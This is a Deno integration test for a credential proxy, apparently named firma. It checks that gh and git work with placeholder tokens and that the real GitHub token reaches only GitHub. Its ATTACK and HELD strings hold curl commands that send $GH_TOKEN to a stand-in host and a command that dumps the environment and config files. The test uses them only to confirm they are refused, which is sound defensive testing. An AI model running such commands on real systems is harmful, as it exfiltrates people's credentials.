/** The real gh and git, with what docs/guides/credentials.md says of them, word for word. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { blocks } from "../docs/guide.ts";
import { Person, program } from "../fixtures/cli.ts";
import { startGitServer } from "../fixtures/git_server.ts";
import { TestCa } from "../fixtures/test_ca.ts";

const API = "api.github.com";
const CODE = "github.com";
const ELSEWHERE = "elsewhere.test";
const TOKEN = "gho_ofThePersonAndOfNobodyElse0123456789";
const BASIC = `Basic ${btoa(`x-access-token:${TOKEN}`)}`;

/** What `gh` and `git` hold while they work. */
const HELD = `
env
gh auth token
gh api user
find "$HOME/.config" "$PWD" -type f -exec grep --text --with-filename "" {} + 2>/dev/null
`;

/** Takes the placeholder to where it is not for, then calls there without it. */
const ATTACK = `
gh api https://${ELSEWHERE}/with -H "authorization: token $GH_TOKEN"
curl -sS -d "stolen=$GH_TOKEN" https://${ELSEWHERE}/body
curl -sS "https://${ELSEWHERE}/$GH_TOKEN"
curl -sS https://${ELSEWHERE}/without
`;

/** The first block of commands below the heading. */
async function commandsOf(heading: string): Promise<string> {
  const guide = await Deno.readTextFile("docs/guides/credentials.md");
  const section = guide.slice(guide.indexOf(`## ${heading}\n`));
  return blocks(section, /`([\w.]+\.toml)`/g)[0]!.text;
}

Deno.test("gh and git work with placeholders, and the token arrives at GitHub alone", async () => {
  const ca = await TestCa.create();
  await using code = await startGitServer({
    ca,
    host: CODE,
    repository: "team/tool.git",
    authorization: BASIC,
  });
  const seen: { readonly host: string; readonly path: string; readonly authorization: string }[] =
    [];
  await using api = Deno.serve(
    { hostname: "127.0.0.1", port: 0, ...await ca.issue(API, ELSEWHERE), onListen: () => {} },
    (request) => {
      const { hostname: host, pathname: path } = new URL(request.url);
      const authorization = request.headers.get("authorization") ?? "";
      seen.push({ host, path, authorization });
      if (host === ELSEWHERE) return new Response("hello from elsewhere\n");
      if (!authorization.includes(TOKEN) && authorization !== BASIC) {
        return Response.json({ message: "Bad credentials" }, { status: 401 });
      }
      if (path === "/user") return Response.json({ login: "ada", token: TOKEN });
      // It says back what it was shown, in the title of an issue.
      return Response.json({ data: issues(`shown ${authorization}`) });
    },
  );
  await using person = await Person.create();
  const address = `127.0.0.1:${api.addr.port}`;
  await person.configure({
    servers: [
      { host: CODE, address: code.address, certificate: ca.certificate },
      ...[API, ELSEWHERE].map((host) => ({ host, address, certificate: ca.certificate })),
    ],
    mappings: ["github"],
    rules: ["GET", "POST"].map((method) =>
      `[[rules]]\nhost = "${ELSEWHERE}"\nmethod = "${method}"\naction_class = "code.read"\n`
    ).join(""),
  });
  const gh = join(person.home, ".config/gh/hosts.yml");
  await Deno.mkdir(join(person.home, ".config/gh"), { recursive: true });
  await Deno.writeTextFile(
    gh,
    `github.com:\n    user: ada\n    oauth_token: ${TOKEN}\n    git_protocol: https\n`,
    { mode: 0o600 },
  );
  const prepare = `
git init --quiet --initial-branch=main
git remote add origin https://${CODE}/team/tool.git
git fetch --quiet "$1" main && git reset --quiet --hard FETCH_HEAD
git config branch.main.remote origin && git config branch.main.merge refs/heads/main
git -c user.name=ada -c user.email=ada@example.test commit --quiet --allow-empty --message=second
gh auth token
`;
  const prepared = await person.startProgram("sh", ["-e", "-c", prepare, "sh", code.directory])
    .finished();
  // The file is one that gh understands.
  assert.equal(prepared.stdout, `${TOKEN}\n`, prepared.stderr);
  await person.firma(["trust"]);

  const before = await code.head("main");
  const bin = join(person.home, "bin");
  await Deno.mkdir(bin);
  await Deno.symlink(program(), join(bin, "firma"));
  const env = { PATH: `${bin}:/usr/local/bin:/usr/bin:/bin` };
  const commands = await commandsOf("GitHub, gh and git");
  const guide = await person.startProgram("sh", ["-e", "-c", commands], { env }).finished();
  assert.equal(guide.code, 0, guide.stdout + guide.stderr);
  assert.match(guide.stdout, /7\tOPEN\tshown token ghp_\w+/);
  assert.notEqual(await code.head("main"), before, "nothing was pushed");

  const held = await person.firma(["run", "--", "sh", "-c", HELD + ATTACK]);
  assert.match(held.stdout, /GH_TOKEN=ghp_\w+/);
  const placeholder = /GH_TOKEN=(\S+)/.exec(held.stdout)![1]!;
  assert.ok(held.stdout.includes(`\n${placeholder}\n`), "gh holds something else");
  assert.ok(held.stdout.includes(`"token":"${placeholder}"`));
  for (const { stdout, stderr } of [guide, held]) {
    for (const text of [TOKEN, btoa(TOKEN), BASIC]) assert.ok(!(stdout + stderr).includes(text));
  }
  const atHome = seen.filter(({ host }) => host === API);
  assert.deepEqual([...new Set(atHome.map(({ path }) => path))], ["/user", "/graphql"]);
  assert.ok(code.requests.some(({ authorization }) => authorization === BASIC));

  assert.match(held.stdout, /hello from elsewhere/);
  assert.deepEqual(seen.filter(({ host }) => host === ELSEWHERE).map(({ path }) => path), [
    "/without",
  ]);
  const refused = (await person.events()).flatMap((event) =>
    event.kind === "decision" && event.resource.startsWith(ELSEWHERE)
      ? [`${event.decision} ${event.deny_reason}`]
      : []
  );
  assert.deepEqual(refused, [...Array(3).fill("DENY PlaceholderRefused"), "ALLOW "]);

  const [list, test, remove, doctor] = (await commandsOf("See and change them")).split("\n");
  const by = async (line: string) => {
    const ended = await person.startProgram("sh", ["-c", line], { env }).finished();
    assert.ok(!(ended.stdout + ended.stderr).includes(TOKEN), line);
    return ended;
  };
  assert.match((await by(list!)).stdout, /^github\s/m);
  assert.match((await by(test!)).stdout, /github/);
  assert.equal((await by(remove!)).code, 0);
  assert.doesNotMatch((await by(list!)).stdout, /^github\s/m);
  assert.match((await by(doctor!)).stdout, /credential/i);
});

function issues(title: string): unknown {
  const node = {
    number: 7,
    title,
    state: "OPEN",
    url: `https://${CODE}/team/tool/issues/7`,
    updatedAt: "2026-11-23T12:00:00Z",
    labels: { nodes: [], totalCount: 0 },
  };
  return {
    repository: {
      hasIssuesEnabled: true,
      issues: { totalCount: 1, nodes: [node], pageInfo: { hasNextPage: false, endCursor: "" } },
    },
  };
}
